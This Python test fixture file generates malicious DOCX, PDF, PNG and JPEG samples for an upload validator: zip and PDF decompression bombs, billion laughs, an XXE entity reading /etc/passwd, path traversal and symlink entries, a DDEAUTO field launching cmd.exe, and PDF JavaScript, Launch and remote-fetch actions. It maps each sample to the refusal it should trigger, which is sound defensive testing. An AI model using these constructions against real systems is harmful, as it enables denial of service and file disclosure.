"""Files that want to do harm, each built when a test asks for it; none lies in the repository."""

import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable

from tests.attachments.building import (
    OUTSIDE,
    archive,
    chunk,
    document,
    docx,
    docx_parts,
    jpeg,
    packed,
    pdf,
    png,
    relations,
    segment,
    stream,
)
from webapp.reading_files.refusals import Refusal

ZEROS = bytes(1_000_000)
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
MISCHIEF = "app.alert(1)"


def zip_bomb(megabytes: int = 40) -> bytes:
    """An archive of one text that unpacks to a thousand times its size."""
    return docx("Text", more={"word/media/null.xml": b"<a>" + b" " * megabytes * 10**6 + b"</a>"})


def many_small_bombs() -> bytes:
    """A hundred texts, none of them large for itself."""
    parts = docx_parts("Text")
    for number in range(100):
        parts[f"customXml/item{number}.xml"] = b"<a>" + b" " * 999_000 + b"</a>"
    return archive(parts)


def lying_bomb() -> bytes:
    """A text that unpacks to more than the directory says."""
    content = bytearray(docx("Text", more={"word/styles.xml": b"<a>" + b" " * 10**7 + b"</a>"}))
    said = struct.pack("<L", 10**7 + 7)
    while (place := content.find(said)) >= 0:
        content[place : place + 4] = struct.pack("<L", 100)
    return bytes(content)


def overlapping_entries() -> bytes:
    """A directory whose entries all mean the same bytes."""
    parts = docx_parts("Text") | {"word/a.xml": b"<a>" + b" " * 900_000 + b"</a>"}
    content = archive(parts)
    begin = content.rfind(b"PK\x01\x02")
    entry, end = content[begin:-22], content[-22:]
    copies = b"".join(entry.replace(b"word/a.xml", b"word/%c.xml" % sign) for sign in b"bcdefgh")
    *head, count, size, start, comment = struct.unpack("<4s2H2H2LH", end)
    head[-1] += 7
    return (
        content[:-22]
        + copies
        + struct.pack("<4s2H2H2LH", *head, count + 7, size + len(copies), start, comment)
    )


def nested_zip() -> bytes:
    """An archive in an archive, as in 42.zip."""
    inner = archive({"null": ZEROS})
    return docx("Text", more={"word/media/image1.png": inner})


def many_entries(number: int = 100_000) -> bytes:
    """More entries than any text has."""
    written = io.BytesIO(docx("Text"))
    with zipfile.ZipFile(written, "a", zipfile.ZIP_STORED) as file:
        for place in range(number):
            file.writestr(zipfile.ZipInfo(f"word/{place}.xml"), b"<a/>")
    return written.getvalue()


def symlink() -> bytes:
    """An entry that points elsewhere."""
    entry = zipfile.ZipInfo("word/media/image1.png")
    entry.create_system, entry.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    written = io.BytesIO(docx("Text"))
    with zipfile.ZipFile(written, "a") as file:
        file.writestr(entry, "/etc/passwd")
    return written.getvalue()


def locked_docx() -> bytes:
    """An archive whose entries claim to be encrypted."""
    content = bytearray(docx("Text"))
    for mark, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = content.find(mark)
        while place >= 0:
            content[place + flags] |= 1
            place = content.find(mark, place + 4)
    return bytes(content)


def billion_laughs() -> str:
    """Entities that unfold to a billion words."""
    rows = "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' if n else '<!ENTITY l0 "ha">' for n in range(10)
    )
    return f"<!DOCTYPE d [{rows}]>"


def in_parts(**parts: bytes | str) -> bytes:
    """A DOCX with parts whose names are written with two underscores for a slash."""
    named = {
        name.replace("__", "/").replace("_dot_", "."): part.encode()
        if isinstance(part, str)
        else part
        for name, part in parts.items()
    }
    return docx("Text", more=named)


def related(kind: str, target: str, mode: str = OUTSIDE) -> bytes:
    """A DOCX with one relation."""
    return docx(
        "Text", more={"word/_rels/document.xml.rels": relations((kind, target, mode)).encode()}
    )


def field(words: str) -> bytes:
    """A DOCX with a field, its instruction in two pieces as Word writes it."""
    half = len(words) // 2
    runs = "".join(
        f"<w:r><w:instrText>{each}</w:instrText></w:r>" for each in (words[:half], words[half:])
    )
    return docx("Text", inside=f"<w:p>{runs}</w:p>")


def pdf_bomb(times: int, megabytes: int) -> bytes:
    """A page whose text was compressed so many times."""
    content = zlib.compressobj(9)
    out = b"".join(content.compress(ZEROS) for _ in range(megabytes)) + content.flush()
    for _ in range(times - 1):
        out = zlib.compress(out, 9)
    names = " /FlateDecode" * times
    return pdf("Text", more={11: stream(out, f"/Filter [{names}]")})


def object_stream_bomb() -> bytes:
    """A container of objects that unpacks to 300 MB while the table of contents is read."""
    bomb = zlib.compressobj(9)
    out = bomb.compress(b"9 0 ") + b"".join(bomb.compress(ZEROS) for _ in range(300)) + bomb.flush()
    head = b"%PDF-1.7\n"
    two = (
        b"2 0 obj\n"
        + stream(out, "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")
        + b"\nendobj\n"
    )
    rows = ((0, 0, 0), (2, 2, 0), (1, len(head), 0), (1, len(head) + len(two), 0))
    table = b"".join(struct.pack(">BLH", *row) for row in rows)
    three = (
        b"3 0 obj\n" + stream(table, "/Type /XRef /W [1 4 2] /Size 4 /Root 1 0 R") + b"\nendobj\n"
    )
    return head + two + three + b"startxref\n%d\n%%%%EOF\n" % (len(head) + len(two))


def many_pages(number: int = 100_000) -> bytes:
    """One page, shown a hundred thousand times."""
    return pdf(
        "Text",
        more={2: f"<< /Type /Pages /Kids [{'10 0 R ' * number}] /Count {number} >>".encode()},
    )


def many_objects(number: int = 150_000) -> bytes:
    """More objects than anybody reads."""
    return pdf("Text", more={100 + place: b"<<>>" for place in range(number)})


def endless_pages() -> bytes:
    """A tree of pages that leads back to itself."""
    return pdf("Text", more={2: b"<< /Type /Pages /Kids [2 0 R 10 0 R] /Count 2 /Parent 2 0 R >>"})


def endless_forms() -> bytes:
    """Two drawings that each draw the other one, and both twice."""
    each_other = "/Resources << /XObject << /A 4 0 R /B 5 0 R >> >>"
    draws = f"/Type /XObject /Subtype /Form /BBox [0 0 9 9] {each_other}"
    both = b"/A Do /B Do /A Do /B Do"
    return pdf(
        "Text",
        page=each_other,
        more={4: stream(both, draws), 5: stream(both, draws), 11: stream(both)},
    )


def deep_array() -> bytes:
    """Lists in lists in lists."""
    return pdf("Text", more={4: b"[" * 50_000 + b"]" * 50_000})


def endless_previous() -> bytes:
    """A table of contents that names itself as the one before."""
    content = pdf("Text")
    place = int(content.rsplit(b"startxref\n", 1)[1].split()[0])
    return content.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % place)


def many_operations() -> bytes:
    """A page of millions of small steps."""
    return pdf("Text", more={11: packed(b"BT /F1 1 Tf (a) Tj ET " * 2_000_000)})


def locked_pdf() -> bytes:
    """A PDF with a password."""
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf("Geheim"))))
    writer.encrypt("geheim", algorithm="AES-256")
    written = io.BytesIO()
    writer.write(written)
    return written.getvalue()


def hidden_script() -> bytes:
    """A script no page leads to, its name written with a sign as a number."""
    return pdf("Text", more={4: b"<< /S /Java#53cript /J#53 (x) >>"})


def macro_type() -> bytes:
    """A DOCX that says of itself that it has macros."""
    types = docx_parts()["[Content_Types].xml"]
    renamed = types.replace(b"document.main", b"document.macroEnabled.main")
    return docx("Text", more={"[Content_Types].xml": renamed})


T, M, A, E, L, B, X, C, V = (
    Refusal.TOO_MUCH, Refusal.MIXED, Refusal.ACTIVE, Refusal.EMBEDDED, Refusal.LINKED,
    Refusal.BROKEN, Refusal.UNKNOWN_TYPE, Refusal.ENCRYPTED, Refusal.VIRUS,
)  # fmt: skip

HOSTILE: dict[str, tuple[Callable[[], bytes], set[Refusal]]] = {
    # archives
    "docx: 1:1000 bomb": (zip_bomb, {T}),
    "docx: many small bombs": (many_small_bombs, {T}),
    "docx: bomb that lies about its size": (lying_bomb, {T, B}),
    "docx: entries over one another": (overlapping_entries, {T, B}),
    "docx: archive in archive": (nested_zip, {E}),
    "docx: 100,000 entries": (many_entries, {T}),
    "docx: way out of the folder": (lambda: in_parts(**{"../../x.xml": "<a/>"}), {M}),
    "docx: way from the root": (lambda: in_parts(**{"/etc/x.xml": "<a/>"}), {M}),
    "docx: way of Windows": (lambda: in_parts(**{"word\\..\\x.xml": "<a/>"}), {M}),
    "docx: symlink": (symlink, {M}),
    "docx: the same name twice": (
        lambda: docx("a", more={"WORD/document.xml": document("b").encode()}), {M},
    ),
    "docx: password": (locked_docx, {C}),
    "docx: something before it": (lambda: b"GIF89a" + docx("Text"), {X}),
    "docx: something behind it": (lambda: docx("Text") + b"<html>", {M}),
    "docx: cut off": (lambda: docx("Text")[:-30], {B}),
    "docx: another archive": (lambda: archive({"a.txt": b"a"}), {X, E}),
    # its parts
    "docx: billion laughs": (lambda: docx("Text", before=billion_laughs()), {A}),
    "docx: XXE": (
        lambda: docx("&x;", before='<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'), {A},
    ),
    "docx: DTD from elsewhere": (
        lambda: docx("Text", before='<!DOCTYPE d SYSTEM "http://boese.example/d.dtd">'), {A},
    ),
    "docx: DTD in UTF-16": (
        lambda: docx("a", more={"word/styles.xml": "<!DOCTYPE a><a/>".encode("utf-16")}), {A, B},
    ),
    "docx: endless nesting": (
        lambda: docx("Text", inside="<w:p>" * 100_000 + "</w:p>" * 100_000), {T},
    ),
    "docx: macros": (lambda: docx("Text", more={"word/vbaProject.bin": b"\0" * 99}), {A}),
    "docx: type with macros": (macro_type, {A}),
    "docx: OLE object": (
        lambda: docx("a", more={"word/media/image1.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}), {E},
    ),
    "docx: embedded table": (
        lambda: docx("a", more={"word/embeddings/Table.xlsx": archive({"a": b"b"})}), {E},
    ),
    "docx: ActiveX": (lambda: docx("a", more={"word/activeX/activeX1.xml": b"<a/>"}), {E}),
    "docx: program as a picture": (
        lambda: docx("a", more={"word/media/image1.png": b"MZ\x90\0"}), {M},
    ),
    "docx: script in a picture": (
        lambda: docx("a", more={"word/media/image1.svg": b"<svg><script>x</script></svg>"}), {A},
    ),
    "docx: unknown part": (lambda: docx("a", more={"word/run.exe": b"MZ"}), {E}),
    "docx: template from elsewhere": (
        lambda: related("attachedTemplate", "http://boese.example/a.dotm"), {L},
    ),
    "docx: picture from elsewhere": (lambda: related("image", "http://boese.example/a.png"), {L}),
    "docx: link to a program": (lambda: related("hyperlink", "file:///c:/a.exe"), {L}),
    "docx: text of another format": (lambda: related("aFChunk", "a.htm", ""), {E}),
    "docx: OLE relation": (lambda: related("oleObject", "a.bin", ""), {E}),
    "docx: field that starts a program": (lambda: field('DDEAUTO c:\\cmd.exe "/c calc"'), {L}),
    "docx: field that fetches": (lambda: field('INCLUDEPICTURE "http://boese.example/a"'), {L}),
    "docx: EICAR": (lambda: docx(EICAR.decode().replace("<", "")), {V}),
    # photos
    "png: archive behind it": (lambda: png() + archive({"a.txt": b"a"}), {M}),
    "png: page behind it": (lambda: png() + b"<html><script>x</script>", {M}),
    "png: a part with a wrong sum": (lambda: png().replace(b"IDAT", b"IDOT"), {B}),
    "png: cut off": (lambda: png()[:-6], {B}),
    "png: without a picture": (lambda: b"\x89PNG\r\n\x1a\n" + chunk(b"IEND", b""), {B}),
    "png: more dots than there are atoms": (lambda: png(width=2**31, height=2**31), {T}),
    "png: part of four gigabytes": (lambda: png()[:33] + b"\xff\xff\xff\xffIDAT", {B}),
    "png: virus in a note": (lambda: png(chunk(b"tEXt", EICAR)), {V}),
    "jpeg: archive behind it": (lambda: jpeg(behind=archive({"a.txt": b"a"})), {M}),
    "jpeg: film behind it": (lambda: jpeg(behind=b"\0\0\0\x18ftypmp42"), {M}),
    "jpeg: cut off": (lambda: jpeg()[:-2], {B}),
    "jpeg: without a size": (lambda: jpeg().replace(b"\xff\xc0", b"\xff\xe5"), {B}),
    "jpeg: nothing in it": (lambda: b"\xff\xd8\xff\xd9", {B}),
    "jpeg: a dot of 65,535 by 65,535": (lambda: jpeg(width=65_535, height=65_535), {T}),
    "jpeg: only gaps": (lambda: b"\xff\xd8" + b"\xff" * 5_000_000, {B}),
    "gif": (lambda: b"GIF89a" + bytes(40), {X}),
    "svg": (lambda: b"<svg xmlns='http://www.w3.org/2000/svg'><script>x</script></svg>", {X}),
    "heic": (lambda: b"\0\0\0\x18ftypheic" + bytes(40), {X}),
    # PDF
    "pdf: nested 1:300,000 bomb": (lambda: pdf_bomb(2, 300), {T}),
    "pdf: thrice nested bomb": (lambda: pdf_bomb(3, 300), {T}),
    "pdf: simple bomb": (lambda: pdf_bomb(1, 400), {T}),
    "pdf: bomb of objects": (object_stream_bomb, {T, B}),
    "pdf: 100,000 pages": (many_pages, {T, B}),
    "pdf: 150,000 objects": (many_objects, {T, B}),
    "pdf: pages that lead back": (endless_pages, {B, T}),
    "pdf: lists in lists": (deep_array, {T, B}),
    "pdf: password": (locked_pdf, {C}),
    "pdf: script": (
        lambda: pdf("Text", catalog=f"/OpenAction << /S /JavaScript /JS ({MISCHIEF}) >>"), {A},
    ),
    "pdf: script by name": (
        lambda: pdf("Text", catalog="/Names << /JavaScript << /Names [(a) 4 0 R] >> >>"), {A},
    ),
    "pdf: hidden script": (hidden_script, {A}),
    "pdf: program to start": (
        lambda: pdf("Text", page="/Annots [<< /Subtype /Link /A << /S /Launch /F (cmd.exe) >> >>]"),
        {A},
    ),
    "pdf: action on turning a page": (lambda: pdf("Text", page="/AA << /O 4 0 R >>"), {A}),
    "pdf: form that sends": (
        lambda: pdf("Text", more={4: b"<< /S /SubmitForm /F (http://boese.example) >>"}), {A},
    ),
    "pdf: web address on opening": (
        lambda: pdf("Text", catalog="/OpenAction << /S /URI /URI (http://boese.example) >>"), {A},
    ),
    "pdf: XFA": (lambda: pdf("Text", catalog="/AcroForm << /XFA 4 0 R >>"), {A}),
    "pdf: embedded file": (
        lambda: pdf("Text", catalog="/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>",
                    more={4: b"<< /Type /Filespec /EF << /F 5 0 R >> >>"}), {E},
    ),
    "pdf: file as a comment": (
        lambda: pdf("Text", page="/Annots [<< /Subtype /FileAttachment /FS 4 0 R >>]"), {E},
    ),
    "pdf: film": (lambda: pdf("Text", page="/Annots [<< /Subtype /RichMedia >>]"), {E}),
    "pdf: web page before it": (lambda: b"<html><script>x</script>" + pdf("Text"), {M}),
    "pdf: web page in its head": (
        lambda: pdf("Text").replace(b"%\xe2\xe3\xcf\xd3", b"<html><script>x</script>"), {M},
    ),
    "pdf: archive behind it": (lambda: pdf("Text") + archive({"a": b"b"}), {M}),
    "pdf: EICAR": (lambda: pdf("Text", more={4: stream(EICAR)}), {V}),
    "pdf: only its head": (lambda: b"%PDF-1.7\n%%EOF", {B}),
    "pdf: no end": (lambda: pdf("Text")[:-8], {B}),
    # what is neither
    "nothing": (lambda: b"", {B}),
    "web page called PDF": (lambda: b"<!DOCTYPE html><script>x</script>", {X}),
    "drawing called PDF": (lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="x"/>', {X}),
    "old Word": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), {X}),
    "RTF": (lambda: b"{\\rtf1 \\object}", {X}),
    "program": (lambda: b"MZ" + bytes(512), {X}),
    "EICAR": (lambda: EICAR, {X, V}),
    "50 MB": (lambda: b"%PDF-1.7\n" + bytes(50_000_000), {T}),
}  # fmt: skip
"""What it is, how it is built, and for which reasons it may be refused."""

INERT: dict[str, tuple[Callable[[], bytes], str]] = {
    "pdf: scanned, no text": (
        lambda: pdf("Text", more={11: stream(b"q 9 0 0 9 0 0 cm Q")}), "",
    ),
    "pdf: table of contents that leads back": (endless_previous, "Text"),
    "pdf: drawings that draw each other": (endless_forms, ""),
    "pdf: millions of small steps": (many_operations, ""),
    "pdf: going to a page on opening": (
        lambda: pdf("Wir suchen Rat", catalog="/OpenAction [10 0 R /XYZ 0 0 0]"), "Wir suchen Rat",
    ),
    "docx: link to a web page": (
        lambda: related("hyperlink", "https://www.beispiel.example/"), "Text",
    ),
    "docx: empty": (docx, ""),
    "jpeg: notes that run out of the file": (
        lambda: jpeg(segment(0xE1, b"Exif\0\0II*\0\xff\xff\xff\xff")), "",
    ),
    "jpeg: notes with 65,535 entries": (
        lambda: jpeg(segment(0xE1, b"Exif\0\0II*\0\x08\0\0\0\xff\xff")), "",
    ),
    "jpeg: a second picture behind it": (lambda: jpeg(behind=jpeg()), ""),
    "docx: a long word": (lambda: docx("".join(map(str, range(300_000)))), "0123456789"),
}  # fmt: skip
"""What it is, how it is built, and the text that is read, if it can be foreseen."""
